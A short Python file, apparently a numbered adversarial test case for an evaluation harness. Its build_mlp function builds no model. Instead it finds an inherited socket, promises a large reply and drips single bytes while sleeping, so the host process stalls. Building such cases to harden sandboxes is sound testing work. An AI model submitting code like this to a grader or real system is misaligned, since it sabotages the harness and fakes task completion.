"""Attacks 11 and 20: promise an answer, and have a thread of TensorFlow's send it byte by byte."""

import os
import stat
import struct
import threading
import time


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise RuntimeError


def drip():
    os.write(channel(), struct.pack("<Q", 2**20))
    while True:
        os.write(channel(), b"x")
        time.sleep(0.02)


def build_mlp(hidden=(8,)):
    threading.Thread(target=drip, daemon=True).start()
    time.sleep(1000)
